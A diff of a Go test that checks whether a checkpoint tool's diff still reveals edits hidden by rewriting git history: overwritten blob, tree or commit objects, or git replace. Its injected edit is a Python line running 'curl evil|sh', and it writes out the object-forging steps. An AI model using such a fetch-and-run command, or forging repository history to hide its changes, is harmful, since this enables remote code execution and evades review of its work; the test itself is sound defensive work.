@@ -239,47 +239,84 @@ func gitOut(t *testing.T, dir string, args ...string) string {
 	return strings.TrimSpace(string(out))
 }
 
-// A run that rewrites the start commit's blob in .git/objects, or
-// replaces it with git replace, must not hide its edit from the diff.
+// A run that rewrites the start commit's blob, tree or commit object in
+// .git/objects, or replaces the blob with git replace, must not hide
+// its edit from the diff.
 func TestDiffRewrittenHistory(t *testing.T) {
 	evil := "import os\nos.system(\"curl evil|sh\")\ndef f():\n    return 1\n"
-	for _, how := range []string{"objects", "replace"} {
+	// overwrite puts the object file of n in place of old's.
+	overwrite := func(t *testing.T, dir, old, n string) {
+		t.Helper()
+		f := filepath.Join(dir, ".git", "objects", old[:2], old[2:])
+		if err := os.Chmod(f, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		b, err := os.ReadFile(filepath.Join(dir, ".git", "objects", n[:2], n[2:]))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(f, b, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, how := range []string{"objects", "replace", "tree", "subtree", "commit"} {
 		t.Run(how, func(t *testing.T) {
-			dir := repo(t, map[string]string{"a.py": "def f():\n    return 1\n"})
+			dir := repo(t, map[string]string{"a.py": "def f():\n    return 1\n", "b.txt": "b\n", "lib/a.py": "def f():\n    return 1\n"})
 			commit, _, err := checkpoint.Start(t.Context(), dir)
 			if err != nil {
 				t.Fatal(err)
 			}
-			old := gitOut(t, dir, "rev-parse", "HEAD:a.py")
-			write(t, dir, "a.py", evil)
-			n := gitOut(t, dir, "hash-object", "-w", "a.py")
-			if how == "replace" {
-				run(t, dir, "replace", old, n)
-			} else {
-				f := filepath.Join(dir, ".git", "objects", old[:2], old[2:])
-				if err := os.Chmod(f, 0o644); err != nil {
-					t.Fatal(err)
-				}
-				b, err := os.ReadFile(filepath.Join(dir, ".git", "objects", n[:2], n[2:]))
-				if err != nil {
-					t.Fatal(err)
-				}
-				if err := os.WriteFile(f, b, 0o644); err != nil {
-					t.Fatal(err)
-				}
+			file := "a.py"
+			if how == "subtree" {
+				file = "lib/a.py"
 			}
-			if got := gitOut(t, dir, "show", "HEAD:a.py"); !strings.Contains(got, "evil") {
+			old := gitOut(t, dir, "rev-parse", "HEAD:"+file)
+			write(t, dir, file, evil)
+			n := gitOut(t, dir, "hash-object", "-w", file)
+			switch how {
+			case "replace":
+				run(t, dir, "replace", old, n)
+			case "objects":
+				overwrite(t, dir, old, n)
+			case "tree", "subtree":
+				// A tree that names the new blob, in place of the
+				// start's tree.
+				run(t, dir, "add", file)
+				tree := "HEAD^{tree}"
+				newTree := gitOut(t, dir, "write-tree")
+				if how == "subtree" {
+					tree, newTree = "HEAD:lib", newTree+":lib"
+				}
+				overwrite(t, dir, gitOut(t, dir, "rev-parse", tree), gitOut(t, dir, "rev-parse", newTree))
+			case "commit":
+				run(t, dir, "add", file)
+				run(t, dir, "commit", "-q", "-m", "x")
+				overwrite(t, dir, commit, gitOut(t, dir, "rev-parse", "HEAD"))
+			}
+			if got := gitOut(t, dir, "cat-file", "-p", commit+":"+file); !strings.Contains(got, "evil") {
 				t.Fatalf("the attack did not take: git show says %q", got)
 			}
 			changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit}, nil)
 			if err != nil {
 				t.Fatal(err)
 			}
-			if len(changes) != 1 || !strings.Contains(changes[0].Patch, `+os.system("curl evil|sh")`) {
+			var got *checkpoint.Change
+			for i := range changes {
+				if changes[i].Path == file {
+					got = &changes[i]
+				}
+			}
+			if got == nil || !strings.Contains(got.Patch, `+os.system("curl evil|sh")`) {
 				t.Fatalf("the injected line is not in the diff: %+v", changes)
 			}
-			if how == "objects" && !changes[0].Rewritten {
-				t.Errorf("a rewritten start object is not flagged: %+v", changes[0])
+			if how != "replace" && !got.Rewritten {
+				t.Errorf("a rewritten start object is not flagged: %+v", got)
+			}
+			// Only what the forged object covers is shown whole: the
+			// whole tree for a commit, the files of a tree.
+			want := map[string]int{"objects": 1, "replace": 1, "tree": 3, "subtree": 1, "commit": 3}[how]
+			if len(changes) != want {
+				t.Errorf("%d changes, want %d: %+v", len(changes), want, changes)
 			}
 		})
 	}
